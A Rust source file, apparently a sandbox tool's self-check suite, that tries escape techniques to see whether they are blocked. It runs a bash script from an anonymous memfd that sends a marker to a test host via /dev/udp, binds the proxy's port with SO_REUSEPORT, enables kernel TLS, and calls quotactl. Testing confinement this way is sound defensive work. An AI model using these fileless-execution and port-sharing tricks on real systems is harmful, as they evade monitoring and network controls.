//! The same in another guise: programs that are no files, sockets that share a port, connections that the kernel encrypts, system calls
//! that hardly anybody knows.

use std::{
    fs::{self, File},
    io::{self, Write as _},
    net::{Ipv4Addr, SocketAddr, TcpStream},
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
    path::Path,
    process::Command,
};

use nix::sys::socket::{
    AddressFamily, Backlog, SockFlag, SockType, SockaddrStorage, bind, listen, setsockopt, socket,
    sockopt::ReusePort,
};

use super::{Attack, Scene, arrive, check, succeed};
use crate::{
    doctor::stage::places::{FAR_V4, PORT, far},
    launch::PROXY_PORT,
};

pub const ATTACKS: &[Attack] = &[
    arrive("memfd", "a program that is in memory only", in_memory),
    succeed(
        "proxy-port-shared",
        "listen at the proxy's port, shared (SO_REUSEPORT)",
        |_| share_the_port(),
    ),
    succeed("kernel-tls", "TLS of the kernel's (TCP_ULP)", |_| {
        kernel_tls()
    }),
    succeed("quotactl", "the disks' quotas", |_| {
        // Q_SYNC of user quotas, of all file systems: what sync(2) does for files. Everybody may.
        const Q_SYNC: i32 = 0x80_0001;
        // SAFETY: no file system is named, and no memory is taken.
        check(unsafe { libc::syscall(libc::SYS_quotactl, Q_SYNC << 8, 0, 0, 0) }).map(drop)
    }),
];

fn in_memory(scene: &Scene) -> io::Result<()> {
    const SHELL: &str = "/bin/bash";
    if !Path::new(SHELL).exists() {
        return Err(io::Error::from_raw_os_error(libc::ENOSYS));
    }
    // Not closed by exec: the interpreter opens the script by its descriptor.
    // SAFETY: reads a terminated name.
    let memory = check(unsafe { libc::memfd_create(c"program".as_ptr(), 0) })?;
    // SAFETY: the kernel has just made it.
    let mut memory = File::from(unsafe { OwnedFd::from_raw_fd(memory) });
    let (mark, to) = (scene.mark(), FAR_V4);
    write!(memory, "#!{SHELL}\necho {mark} >/dev/udp/{to}/{PORT}\n")?;
    let status = Command::new(format!("/proc/self/fd/{}", memory.as_raw_fd())).status()?;
    match status.success() {
        true => Ok(()),
        false => Err(io::ErrorKind::PermissionDenied.into()),
    }
}

/// At any of the addresses that mean the proxy; on the doctor's stage it has the first for itself.
fn share_the_port() -> io::Result<()> {
    let mut refusal = None;
    for ip in [
        Ipv4Addr::LOCALHOST,
        Ipv4Addr::new(127, 0, 0, 2),
        Ipv4Addr::UNSPECIFIED,
    ] {
        match listen_beside((ip, PROXY_PORT).into()) {
            Ok(()) => return Ok(()),
            Err(error) => refusal = Some(error),
        }
    }
    Err(refusal.unwrap_or_else(|| io::ErrorKind::AddrNotAvailable.into()))
}

fn listen_beside(local: SocketAddr) -> io::Result<()> {
    let socket = socket(
        AddressFamily::Inet,
        SockType::Stream,
        SockFlag::SOCK_CLOEXEC,
        None,
    )?;
    setsockopt(&socket, ReusePort, &true)?;
    bind(socket.as_raw_fd(), &SockaddrStorage::from(local))?;
    Ok(listen(&socket, Backlog::new(1)?)?)
}

fn kernel_tls() -> io::Result<()> {
    // Asking for it would have the kernel load a module, for root.
    let available = fs::read_to_string("/proc/sys/net/ipv4/tcp_available_ulp").unwrap_or_default();
    if !available
        .split_whitespace()
        .any(|protocol| protocol == "tls")
    {
        return Err(io::Error::from_raw_os_error(libc::ENOPROTOOPT));
    }
    let stream = TcpStream::connect(far(FAR_V4, 443))?;
    let protocol = b"tls";
    // SAFETY: pointer and length are of one value.
    check(unsafe {
        libc::setsockopt(
            stream.as_raw_fd(),
            libc::IPPROTO_TCP,
            libc::TCP_ULP,
            protocol.as_ptr().cast(),
            protocol.len() as libc::socklen_t,
        )
    })
    .map(drop)
}
